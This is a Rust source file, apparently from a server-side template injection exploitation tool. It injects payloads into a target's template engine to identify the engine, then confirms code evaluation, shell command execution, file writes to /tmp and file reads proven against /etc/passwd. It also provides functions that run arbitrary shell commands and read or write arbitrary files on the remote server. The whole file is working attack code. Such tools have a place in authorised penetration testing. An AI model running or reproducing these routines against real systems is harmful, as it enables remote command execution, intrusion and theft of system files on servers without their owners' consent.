//! Capability probing and action operations
//!
//! Once reflection is confirmed, every probe here rides the confirmed
//! context: parts left unset on the [`Probe`] resolve to the stored tags,
//! prefix and suffix. Each probe records its own state key on success and
//! skips itself when that key is already present, so a re-run against a
//! confirmed target sends nothing. Engines without a given payload simply
//! no-op that probe.

use crate::core::descriptor::Identity;
use crate::core::oracle::{rand_digits, rand_token};
use crate::core::prober::{Probe, Prober, Transport};
use crate::core::state::keys;
use anyhow::Result;

impl<T: Transport> Prober<'_, T> {
    /// Confirm which engine is rendering the reflection. Stores `engine`
    /// and `language`; an already-identified target is left alone.
    pub async fn detect_engine(&mut self) -> Result<()> {
        if self.state.is_set(keys::ENGINE) {
            return Ok(());
        }
        let engine = self.engine;
        tracing::debug!("{}: probing engine identity", engine.name);

        let confirmed = match &engine.identity {
            Identity::Uppercase(tpl) => {
                let token = rand_token(6);
                let payload = tpl.render("token", &token);
                self.inject(Probe::payload(payload)).await? == token.to_ascii_uppercase()
            }
            Identity::CoercedProduct(tpl) => {
                let a = rand_digits(1);
                let b = rand_digits(1);
                let payload = tpl.fill(&[("a", &a.to_string()), ("b", &b.to_string())]);
                self.inject(Probe::payload(payload)).await? == (a * b).to_string()
            }
        };

        if confirmed {
            self.state.set(keys::ENGINE, engine.name);
            self.state.set(keys::LANGUAGE, engine.language);
            tracing::info!(
                "Target engine identified as {} ({})",
                engine.name,
                engine.language
            );
        }
        Ok(())
    }

    /// Code evaluation: a string literal in the engine's expression language
    /// must come back verbatim.
    pub async fn detect_eval(&mut self) -> Result<()> {
        if self.state.is_set(keys::EVAL) {
            return Ok(());
        }
        let engine = self.engine;
        let Some(eval) = &engine.eval else {
            return Ok(());
        };
        let token = rand_token(6);
        let payload = eval.literal.render("token", &token);
        if self.inject(Probe::payload(payload)).await? == token {
            self.state.set(keys::EVAL, eval.language);
            tracing::info!("Confirmed {} code evaluation", eval.language);
        }
        Ok(())
    }

    /// Shell command execution: `echo <token>` must yield exactly the token.
    /// Exact equality keeps an unevaluated echo of the payload itself from
    /// passing.
    pub async fn detect_exec(&mut self) -> Result<()> {
        if self.state.is_set(keys::EXEC) {
            return Ok(());
        }
        let engine = self.engine;
        let Some(exec) = &engine.exec else {
            return Ok(());
        };
        let token = rand_token(6);
        let payload = exec.command.render("command", &format!("echo {token}"));
        if self.inject(Probe::payload(payload)).await? == token {
            self.state.set(keys::EXEC, "true");
            tracing::info!("Confirmed shell command execution via {}", engine.name);
        }
        Ok(())
    }

    /// File write: drop a token into a randomized temp path, then read it
    /// back through the engine's read payload. Without a read payload the
    /// write cannot be verified and the probe is skipped.
    pub async fn detect_write(&mut self) -> Result<()> {
        if self.state.is_set(keys::WRITE) {
            return Ok(());
        }
        let engine = self.engine;
        let Some(write) = &engine.write else {
            return Ok(());
        };
        let Some(read) = &engine.read else {
            tracing::debug!("{}: no read payload to verify writes with", engine.name);
            return Ok(());
        };
        let token = rand_token(8);
        let path = format!("/tmp/tpl{}.tmp", rand_digits(6));
        let payload = write.write.fill(&[("path", &path), ("data", &token)]);
        self.inject(Probe::payload(payload)).await?;

        let payload = read.path.render("path", &path);
        if self.inject(Probe::payload(payload)).await? == token {
            self.state.set(keys::WRITE, "true");
            tracing::info!("Confirmed file write through {} engine", engine.name);
        }
        Ok(())
    }

    /// File read, proven against /etc/passwd.
    pub async fn detect_read(&mut self) -> Result<()> {
        if self.state.is_set(keys::READ) {
            return Ok(());
        }
        let engine = self.engine;
        let Some(read) = &engine.read else {
            return Ok(());
        };
        let payload = read.path.render("path", "/etc/passwd");
        if self.inject(Probe::payload(payload)).await?.contains("root:") {
            self.state.set(keys::READ, "true");
            tracing::info!("Confirmed file read through {} engine", engine.name);
        }
        Ok(())
    }

    /// Evaluate an expression in the engine's language. `None` when the
    /// engine has no evaluation payload.
    pub async fn evaluate(&mut self, code: &str) -> Result<Option<String>> {
        let engine = self.engine;
        if engine.eval.is_none() {
            return Ok(None);
        }
        let payload = engine.render_tag.render("payload", code);
        Ok(Some(self.inject(Probe::payload(payload)).await?))
    }

    /// Run a shell command and return its isolated output.
    pub async fn execute(&mut self, command: &str) -> Result<Option<String>> {
        let engine = self.engine;
        let Some(exec) = &engine.exec else {
            return Ok(None);
        };
        let payload = exec.command.render("command", command);
        Ok(Some(self.inject(Probe::payload(payload)).await?))
    }

    /// Read a remote file.
    pub async fn read_file(&mut self, path: &str) -> Result<Option<String>> {
        let engine = self.engine;
        let Some(read) = &engine.read else {
            return Ok(None);
        };
        let payload = read.path.render("path", path);
        Ok(Some(self.inject(Probe::payload(payload)).await?))
    }

    /// Write data to a remote file.
    pub async fn write_file(&mut self, path: &str, data: &str) -> Result<Option<String>> {
        let engine = self.engine;
        let Some(write) = &engine.write else {
            return Ok(None);
        };
        let payload = write.write.fill(&[("path", path), ("data", data)]);
        Ok(Some(self.inject(Probe::payload(payload)).await?))
    }
}
